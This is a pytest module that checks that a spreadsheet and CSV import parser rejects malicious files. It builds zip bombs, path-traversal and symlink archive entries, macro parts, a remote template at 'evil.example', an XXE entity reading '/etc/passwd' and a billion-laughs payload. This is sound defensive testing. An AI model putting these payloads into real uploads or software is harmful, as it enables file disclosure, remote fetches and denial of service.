"""Files that are made to hurt, or were hurt on the way (abuse matrix, section G): each refused by name, before it can.

Whatever is refused is refused without a word of what the file holds.
"""

import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.errors import (
    ArchiveInvalid,
    ArchiveTooLarge,
    BodyTooLarge,
    CsvMalformed,
    EmptyImport,
    FileEncodingUnknown,
    FileKindUnknown,
    ImportRejected,
    Malformed,
    NoHeader,
    Problem,
    SheetTooLarge,
)
from app.importing.reading import MOST_BYTES, kind_of, parse
from tests.importing.sheets import csv_file, only, plain, words, workbook

GOOD = workbook(Services=[["Organization", "Service"], ["Example", "One"]])
HEADER = b"Organization,Service,Description\n"


def rezipped(change: Callable[[dict[str, bytes]], None], *, good: bytes = GOOD) -> bytes:
    """A workbook with its parts changed."""
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return made.getvalue()


def with_part(name: str, part: bytes) -> bytes:
    return rezipped(lambda parts: parts.update({name: part}))


def replaced(name: str, old: bytes, new: bytes) -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        assert old in parts[name]
        parts[name] = parts[name].replace(old, new)

    return rezipped(change)


SHEET, CONTENT, WORKBOOK_RELS = (
    "xl/worksheets/sheet1.xml",
    "[Content_Types].xml",
    "xl/_rels/workbook.xml.rels",
)


def renamed(name: str, *, attributes: int = 0) -> bytes:
    made = io.BytesIO(GOOD)
    with zipfile.ZipFile(made, "a") as archive:
        extra = zipfile.ZipInfo(name)
        extra.external_attr = attributes
        archive.writestr(extra, b"x")
    return made.getvalue()


def with_false_size(content: bytes, size: int) -> bytes:
    """The last part's size in the directory is not that of what it unpacks to."""
    at = content.rindex(b"PK\x01\x02")
    return content[: at + 24] + struct.pack("<I", size) + content[at + 28 :]


def overlapping() -> bytes:
    """Two entries of the directory lead to the same bytes."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("[Content_Types].xml", b"<a/>")
        archive.writestr("xl/workbook.xml", b"<a/>")
        first = archive.infolist()[0]
        archive.filelist.append(first)
    return made.getvalue()


def bomb(megabytes: int) -> bytes:
    return with_part("xl/sharedStrings.xml", b"<sst>" + b"A" * (megabytes * 1_000_000) + b"</sst>")


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        pytest.param(lambda: bomb(40), ArchiveTooLarge, id="packed a thousandfold"),
        pytest.param(lambda: bomb(101), ArchiveTooLarge, id="more than 100 MB"),
        pytest.param(
            lambda: rezipped(lambda parts: parts.update({f"xl/media/{n}.bin": b"" for n in range(200)})),
            ArchiveTooLarge,
            id="more than 200 parts",
        ),
        pytest.param(lambda: with_false_size(GOOD, 3), ArchiveInvalid, id="a part larger than it says"),
        pytest.param(lambda: with_false_size(GOOD, 900_000), ArchiveInvalid, id="a part smaller than it says"),
        pytest.param(overlapping, ArchiveInvalid, id="parts that overlap"),
        pytest.param(lambda: renamed("../../etc/x"), ArchiveInvalid, id="a name that leads out"),
        pytest.param(lambda: renamed("/etc/x"), ArchiveInvalid, id="an absolute name"),
        pytest.param(lambda: renamed("xl\\..\\x"), ArchiveInvalid, id="backslashes"),
        pytest.param(lambda: renamed("C:x"), ArchiveInvalid, id="a drive"),
        pytest.param(lambda: renamed("xl/link", attributes=0o120777 << 16), ArchiveInvalid, id="a symbolic link"),
        pytest.param(lambda: renamed("XL/workbook.xml"), ArchiveInvalid, id="two parts of one name"),
        pytest.param(lambda: with_part("xl/media/x.bin", GOOD), ArchiveInvalid, id="an archive inside"),
        pytest.param(lambda: with_part("xl/vbaProject.bin", b"x"), ArchiveInvalid, id="macros"),
        pytest.param(lambda: with_part("xl/macrosheets/sheet1.xml", b"<a/>"), ArchiveInvalid, id="macro sheets"),
        pytest.param(lambda: with_part("xl/externalLinks/externalLink1.xml", b"<a/>"), ArchiveInvalid, id="external links"),
        pytest.param(lambda: with_part("xl/embeddings/oleObject1.bin", b"x"), ArchiveInvalid, id="an embedded file"),
        pytest.param(lambda: with_part("xl/connections.xml", b"<a/>"), ArchiveInvalid, id="a connection"),
        pytest.param(
            lambda: replaced(CONTENT, b"spreadsheetml.sheet.main", b"x.macroEnabled.main"), ArchiveInvalid, id="the type of .xlsm"
        ),
        pytest.param(
            lambda: replaced(
                WORKBOOK_RELS,
                b"</Relationships>",
                b'<Relationship Id="x" Type="http://x/attachedTemplate" Target="http://evil.example/x" TargetMode="External"/></Relationships>',
            ),
            ArchiveInvalid,
            id="a template far away",
        ),
        pytest.param(
            lambda: replaced(SHEET, b"<worksheet", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet'),
            ArchiveInvalid,
            id="an external entity",
        ),
        pytest.param(
            lambda: replaced(
                SHEET,
                b"<worksheet",
                b'<!DOCTYPE x [<!ENTITY a "AAAAAAAAAA"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><worksheet',
            ),
            ArchiveInvalid,
            id="billion laughs",
        ),
        pytest.param(lambda: replaced(SHEET, b"</worksheet>", b""), ArchiveInvalid, id="XML that is cut off"),
        pytest.param(
            lambda: rezipped(lambda parts: parts.update({SHEET: parts[SHEET].decode().encode("utf-16")})),
            ArchiveInvalid,
            id="XML in UTF-16",
        ),
        pytest.param(lambda: replaced(SHEET, b"UTF-8", b"utf-7"), ArchiveInvalid, id="XML in UTF-7"),
        pytest.param(lambda: rezipped(lambda parts: parts.__delitem__("xl/workbook.xml")), ArchiveInvalid, id="no workbook"),
        pytest.param(lambda: GOOD[:-30], ArchiveInvalid, id="cut off at the end"),
        pytest.param(lambda: GOOD[:200], ArchiveInvalid, id="cut off at the start"),
        pytest.param(lambda: b"PK\x03\x04" + b"\x00" * 400, ArchiveInvalid, id="only the first bytes of an archive"),
        pytest.param(lambda: GOOD + b"x" * 70_000, ArchiveInvalid, id="something behind it"),
        pytest.param(lambda: replaced(SHEET, b'r="A2"', b'r="XFD2"'), SheetTooLarge, id="a column far to the right"),
        pytest.param(lambda: replaced(SHEET, b'r="A2"', b'r="A1048576"'), SheetTooLarge, id="a row far below"),
        pytest.param(
            lambda: workbook(Services=[["Organization", "Service"], ["Example", "x" * 21_000]]), SheetTooLarge, id="a huge cell"
        ),
    ],
)  # fmt: skip
def test_a_hostile_workbook_is_refused(content: Callable[[], bytes], problem: type[Problem]) -> None:
    with pytest.raises(problem):
        parse(content(), words())


def test_a_workbook_with_a_password_in_the_zip_is_refused() -> None:
    at = GOOD.index(b"PK\x01\x02")
    flags = struct.unpack("<H", GOOD[at + 8 : at + 10])[0] | 1
    with pytest.raises(ArchiveInvalid):
        parse(GOOD[: at + 8] + struct.pack("<H", flags) + GOOD[at + 10 :], words())


def test_a_part_whose_checksum_is_wrong_is_refused() -> None:
    at = GOOD.rindex(b"PK\x01\x02")
    with pytest.raises(ArchiveInvalid):
        parse(GOOD[: at + 16] + struct.pack("<I", zlib.crc32(b"other")) + GOOD[at + 20 :], words())


def test_a_web_address_in_a_cell_is_no_link_to_another_file() -> None:
    content = workbook(
        Services=[["Organization", "Service", "Website"], ["Example", "One", "https://example.org/help"]]
    )

    assert only(parse(content, words())).url == "https://example.org/help"


@pytest.mark.parametrize(
    ("content", "problem", "told"),
    [
        pytest.param(HEADER.decode().encode("utf-16"), FileEncodingUnknown, "", id="UTF-16"),
        pytest.param(
            HEADER.decode().encode("utf-16-le"), FileEncodingUnknown, "", id="UTF-16 without a mark"
        ),
        pytest.param(
            HEADER + "Example,Café,x\n".encode("latin-1"), FileEncodingUnknown, "Line 2", id="latin-1"
        ),
        pytest.param(HEADER + b"Example,One,a\x00b\n", FileEncodingUnknown, "", id="NUL"),
        pytest.param(
            HEADER + b'Example,One,"x\n' + b"a,b,c\n" * 5,
            CsvMalformed,
            "line 2 ",
            id="a quote that swallows the file",
        ),
        pytest.param(
            HEADER + b"Example,One,x\n" + b'A,B,"' + b"x" * 30_000, CsvMalformed, "line 3 ", id="a huge cell"
        ),
        pytest.param(HEADER + b'Example,One,"x"y\n', CsvMalformed, "line 2 ", id="a quote in the middle"),
        pytest.param(
            HEADER + b"Example,One,x\rExample,Two,y\n", CsvMalformed, "line 2 ", id="a carriage return alone"
        ),
        pytest.param(
            HEADER + b"Example,One" + b"," * 1_000_000 + b"\n",
            SheetTooLarge,
            "Line 2 ",
            id="a million empty columns",
        ),
        pytest.param(
            HEADER + b"Example,One,x\n" + b"\n" * 1_000_000, SheetTooLarge, "", id="a million empty rows"
        ),
        pytest.param(HEADER, EmptyImport, "", id="headers only"),
        pytest.param(b"", EmptyImport, "", id="nothing"),
        pytest.param(b" \n\n", EmptyImport, "", id="blank"),
        pytest.param(b"\xef\xbb\xbf", NoHeader, "", id="only a byte order mark"),
        pytest.param(b"Organization;Service\nExample;One\n", NoHeader, "", id="semicolons"),
        pytest.param(b"%PDF-1.7", FileKindUnknown, "", id="PDF"),
        pytest.param(
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, FileKindUnknown, ".xls", id="an old workbook"
        ),
        pytest.param(b"<?xml version='1.0'?><a/>", FileKindUnknown, "", id="XML"),
        pytest.param(b"\x1f\x8b\x08", FileKindUnknown, "", id="gzip"),
        pytest.param(b"a" * (MOST_BYTES + 1), BodyTooLarge, "20 MB", id="too many bytes"),
    ],
)
def test_a_hostile_text_is_refused_with_its_line(content: bytes, problem: type[Problem], told: str) -> None:
    with pytest.raises(problem) as refused:
        parse(content, words())
    assert told in refused.value.detail


@pytest.mark.parametrize("ends", [b"\r\n", b"\n"])
def test_a_byte_order_mark_and_both_line_ends_are_welcome_also_mixed(ends: bytes) -> None:
    content = csv_file(plain(Description="one\r\ntwo")).replace(b"two", b"two", 1)
    header, _, rest = content.partition(b"\r\n")

    assert only(parse(b"\xef\xbb\xbf" + header + ends + rest, words())).description == "one\ntwo"


def test_the_kind_is_told_by_what_the_file_holds() -> None:
    assert kind_of(GOOD) == "xlsx"
    assert kind_of(HEADER) == "csv"
    assert kind_of(b'\xef\xbb\xbf [{"key": "x"}]') == "json"
    assert kind_of(b'{"contents": []}') == "oruk"
    assert kind_of(b'[{"id": "x", "name": "y"}]') == "oruk"


def test_a_file_of_nothing_but_faults_is_not_listed_for_ever() -> None:
    rows = b"Example,Same name,x\n" * 20_000
    parsed = parse(HEADER + rows, words())

    assert parsed.problems[-1].code == "too-many-problems"
    assert len(parsed.problems) <= 5_001


ANY_FAULT = (ImportRejected, Malformed, BodyTooLarge)


@settings(max_examples=150)
@given(st.binary(max_size=400) | st.binary(max_size=300).map(lambda some: b"PK\x03\x04" + some))
def test_any_bytes_are_read_or_refused(content: bytes) -> None:
    try:
        parse(content, words())
    except ANY_FAULT:
        return


@settings(max_examples=80)
@given(st.randoms(use_true_random=False), st.integers(1, 12))
def test_a_workbook_with_some_bytes_changed_is_read_or_refused(chance: random.Random, changes: int) -> None:
    content = bytearray(GOOD)
    for _ in range(changes):
        content[chance.randrange(4, len(content))] = chance.randrange(256)
    try:
        parse(bytes(content), words())
    except ANY_FAULT:
        return


CELLS = st.text(st.characters(codec="utf-8"), max_size=40).map(lambda text: f"{text}ZQX") | st.sampled_from(
    [
        "none",
        "=1+1",
        "+44",
        "24/7",
        "Mon-Fri 9am-5pm",
        "Birmingham",
        "yes",
        "4.42E+11",
        "'=x",
        "\u202e",
        "B1 1BB",
        "18+",
    ]
)
COLUMNS = st.sampled_from(
    ["Organization", "Service", "Phone 1", "Covers", "Opening hours", "Ages", "Needs", "Route 1 phone", "Postcode", "Polygon 1",
     "Languages", "Confidential", "Id", "Key", "Review by", "Route 1 response time", "nonsense"]
)  # fmt: skip


@settings(max_examples=120)
@given(st.lists(st.dictionaries(COLUMNS, CELLS, max_size=17), min_size=1, max_size=4))
def test_any_cells_are_read_or_told_of_and_never_repeated(rows: list[dict[str, str]]) -> None:
    named = [{"Organization": "Example", "Service": str(number)} | row for number, row in enumerate(rows)]
    try:
        parsed = parse(csv_file(*named), words())
    except ANY_FAULT:
        return
    assert "ZQX" not in " ".join(one.detail + one.fix for one in (*parsed.problems, *parsed.warnings))


@settings(max_examples=100)
@given(st.recursive(st.none() | st.booleans() | st.integers() | st.text(max_size=9), lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.sampled_from(["key", "name", "services", "description", "assurance", "x"]), inner, max_size=5), max_leaves=20))  # fmt: skip
def test_any_json_is_read_or_refused(document: object) -> None:
    try:
        parse(json.dumps(document).encode(), words())
    except ANY_FAULT:
        return
